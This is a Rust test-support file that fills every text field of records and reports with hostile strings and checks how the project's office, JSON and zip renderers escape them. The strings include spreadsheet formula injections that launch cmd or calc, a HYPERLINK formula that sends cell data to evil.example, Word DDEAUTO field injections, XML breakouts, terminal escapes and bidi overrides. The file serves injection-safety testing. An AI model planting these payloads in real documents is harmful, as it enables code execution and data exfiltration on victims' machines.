//! Reports for the tests of the office formats: of a record that has a hostile text in every
//! place where text may stand, and of the examples.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::io::{Cursor, Read};

use medvirk::accept::{Deviation, Judged, Standing};
use medvirk::built_in;
use medvirk::evaluate::Audit;
use medvirk::field::{Scalar, Section, Shape};
use medvirk::outcome::Stated;
use medvirk::record::{SHAPE, read};
use medvirk::render::json::{JsonOutcome, JsonReport, copy};
use medvirk::report::{Audited, Report};
use medvirk::rule::{Force, RuleSet};
use medvirk::source::{Position, Source};
use medvirk::text::Language;

/// Texts that other programs have been known to run, to follow, or to stumble over.
pub const HOSTILE: [&str; 16] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klikk\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO c:\\\\calc\"/><w:r><w:t>",
    "<![CDATA[x]]>&amp;&#0;<!--",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
    "\u{1b}[31mrødt\u{7}\u{9b}2J",
    "\u{202e}txet\u{2066}\u{200f}",
    "\u{0}\u{1}\u{b}\u{1f}",
    "_x0041_ &L&\"Courier\"&20 &P",
    "http://evil.example/ mailto:x@evil.example file:///etc/passwd",
    "\u{fffe}\u{ffff}]]>\u{2028}\u{1f469}\u{200d}\u{2695}",
    "'=1+1",
];

/// Longer than a cell of a workbook may be, and not cut between two halves of a letter.
pub fn very_long() -> String {
    "\u{1f4dc} æøå & <tekst> ".repeat(3_000)
}

/// A record with every field of the format, and a hostile text wherever text may stand.
pub fn hostile_record(yes: bool, number: usize) -> String {
    let mut writer = Writer { text: String::new(), yes, number, texts: 0 };
    if let Shape::Section(section) = SHAPE {
        writer.section(section, 0);
    }
    writer.text
}

struct Writer {
    text: String,
    yes: bool,
    number: usize,
    texts: usize,
}

impl Writer {
    fn section(&mut self, section: &Section, depth: usize) {
        for field in section.fields {
            let _ = write!(self.text, "{}{}:", "  ".repeat(depth), field.name);
            self.value(field.shape, depth, section.name);
        }
    }

    fn value(&mut self, shape: &Shape, depth: usize, owner: &str) {
        match shape {
            Shape::Scalar(scalar) => {
                let value = self.scalar(scalar, owner);
                let _ = writeln!(self.text, " {value}");
            }
            Shape::Section(section) => {
                self.text.push('\n');
                self.section(section, depth + 1);
            }
            Shape::List(item) => {
                let _ = write!(self.text, "\n{}-", "  ".repeat(depth + 1));
                match item {
                    Shape::Section(section) => {
                        self.text.push('\n');
                        self.section(section, depth + 2);
                    }
                    other => self.value(other, depth + 1, owner),
                }
            }
        }
    }

    fn scalar(&mut self, scalar: &Scalar, owner: &str) -> String {
        match scalar {
            Scalar::YesNo => if self.yes { "ja" } else { "nei" }.to_owned(),
            Scalar::Count | Scalar::Number => self.number.to_string(),
            Scalar::Date => if self.yes { "2026-03-01" } else { "2019-03-01" }.to_owned(),
            Scalar::Year => "2025".to_owned(),
            Scalar::Text => self.hostile(),
            Scalar::Choice(choices) => choices.values[self.number % choices.values.len()].to_owned(),
            Scalar::Id => format!("id-{}", owner.to_lowercase()),
            Scalar::Reference(name) => format!("id-{}", name.to_lowercase()),
            Scalar::OrganisationNumber => "974760673".to_owned(),
            Scalar::MunicipalityNumber => "0301".to_owned(),
            Scalar::Format => "medvirk/1".to_owned(),
            Scalar::ListName => "prosjekter".to_owned(),
        }
    }

    /// The next hostile text, as a quoted YAML scalar.
    fn hostile(&mut self) -> String {
        let text = match self.texts % (HOSTILE.len() + 1) {
            position if position < HOSTILE.len() => HOSTILE[position].to_owned(),
            _ => very_long(),
        };
        let token = self.texts % (HOSTILE.len() + 1);
        self.texts += 1;
        let refused = |letter: char| letter.is_control() || matches!(letter, '\u{fffe}' | '\u{202e}');
        if text.chars().any(refused) {
            return format!("\"{{{{{token}}}}}\"");
        }
        let mut quoted = String::from("\"");
        for letter in text.chars() {
            match letter {
                '"' | '\\' => {
                    quoted.push('\\');
                    quoted.push(letter);
                }
                ' '..='~' | 'æ' | 'ø' | 'å' => quoted.push(letter),
                letter => {
                    let _ = write!(quoted, "\\U{:08x}", u32::from(letter));
                }
            }
        }
        quoted + "\""
    }
}

/// The report on some records, given as name and text, as of a fixed date.
pub fn with_report<T>(records: &[(&str, String)], with: impl FnOnce(&Report<'_>) -> T) -> T {
    let set = built_in::rules();
    let audit = Audit::new(&set, "2026-06-01".parse().expect("a date"));
    let mut report = Report::new(&audit, Some(Force::Lov));
    for (name, text) in records {
        let source = Source::new(*name, text.clone());
        match read(&source) {
            Ok(record) => {
                let mut audited = Audited::new(&set, &record, audit.outcomes(&record));
                poison(&mut audited);
                report.records.push(audited);
            }
            Err(problems) => panic!("{name}: {:?}", problems.first()),
        }
    }
    report.failed.push("=kan \u{1b}ikke <leses>.yaml".to_owned().into());
    report.skipped.push("+annen <&> \u{202e}fil.yaml".to_owned());
    report.deviations = HOSTILE.iter().map(|text| judged(&set, text)).collect();
    with(&report)
}

/// An accepted deviation with a hostile text wherever somebody writes one.
fn judged(set: &RuleSet, text: &str) -> Judged {
    let deviation = Deviation {
        rule: set.rules[0].id.clone(),
        organisation: text.to_owned(),
        subject: Some(text.to_owned()),
        reason: text.to_owned(),
        decided_by: text.to_owned(),
        case: Some(text.to_owned()),
        until: jiff::civil::date(2026, 3, 1),
        file: "avvik.toml".to_owned(),
        position: Position { line: 1, column: 1 },
    };
    Judged { deviation, standing: Standing::Expired }
}

/// Puts the characters that YAML does not let through where they would stand if it did.
fn poison(audited: &mut Audited) {
    let put = |text: &mut String| {
        for (position, hostile) in HOSTILE.iter().enumerate() {
            *text = text.replace(&format!("{{{{{position}}}}}"), hostile);
        }
    };
    let organisation = &mut audited.organisation;
    [&mut organisation.name, &mut organisation.number, &mut organisation.kind].into_iter().flatten().for_each(put);
    for outcome in &mut audited.outcomes {
        outcome.subject.name.iter_mut().for_each(put);
        for evidence in &mut outcome.evidence {
            match &mut evidence.stated {
                Stated::Value(value) => put(value),
                Stated::Conflicting(values) => values.iter_mut().for_each(put),
                _ => {}
            }
        }
    }
}

/// A report as a format renders it, and what it should hold.
pub struct Rendered {
    /// The file.
    pub bytes: Vec<u8>,
    /// The same file, rendered once more.
    pub again: Vec<u8>,
    /// The report as JSON has it.
    pub json: JsonReport,
    /// The language.
    pub language: Language,
    /// Every address that the rules know.
    pub ours: BTreeSet<String>,
}

/// The reports that every test looks at.
pub fn render_all(render: impl Fn(&Report<'_>, Language) -> Vec<u8>) -> Vec<Rendered> {
    let hostile_name = "=mappe/<b>&amp;\u{1b}[2J'\"{x}.yaml";
    let starter = vec![("examples/starter.yaml", include_str!("../../examples/starter.yaml").to_owned())];
    let hostile = vec![(hostile_name, hostile_record(true, 3))];
    let several = vec![
        (hostile_name, hostile_record(false, 0)),
        ("b.yaml", hostile_record(true, 12)),
        ("c.yaml", "format: medvirk/1\n".to_owned()),
    ];
    let [nb, nn, en] = Language::ALL;
    let wanted = [(&starter, nn), (&starter, en), (&hostile, nb), (&hostile, en), (&several, nb)];
    let rendered = |(records, language): (&Vec<(&str, String)>, Language)| {
        with_report(records, |report| {
            let library = &report.set.library;
            let provisions = library.provisions.values().filter_map(|one| one.address.clone());
            let documents = library.documents.values().filter_map(|one| one.address.clone());
            Rendered {
                bytes: render(report, language),
                again: render(report, language),
                json: copy(report, language),
                language,
                ours: provisions.chain(documents).collect(),
            }
        })
    };
    wanted.into_iter().map(rendered).collect()
}

/// The parts of a package.
pub fn parts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    (0..archive.len())
        .map(|position| {
            let mut part = archive.by_index(position).expect("a part");
            assert_eq!(part.last_modified(), Some(zip::DateTime::default()));
            let mut text = String::new();
            part.read_to_string(&mut text).expect("a part of text");
            (part.name().expect("a name").into_owned(), text)
        })
        .collect()
}

/// The addresses that links lead to.
pub fn targets(parts: &BTreeMap<String, String>) -> BTreeSet<String> {
    let mut targets = BTreeSet::new();
    for (_, text) in parts.iter().filter(|(name, _)| name.rsplit('.').next() == Some("rels")) {
        let document = roxmltree::Document::parse(text).expect("relations");
        let external = document.descendants().filter(|node| node.attribute("TargetMode") == Some("External"));
        targets.extend(external.filter_map(|node| node.attribute("Target").map(str::to_owned)));
    }
    targets
}

/// All outcomes of a report, in the order of their numbers.
pub fn outcomes(json: &JsonReport) -> impl Iterator<Item = &JsonOutcome> {
    json.records.iter().flat_map(|record| &record.outcomes)
}

/// Text as the formats may show it: what XML forbids, or what turns the reading direction,
/// becomes a mark.
pub fn shown(text: &str) -> String {
    medvirk::render::office::clean(text)
}
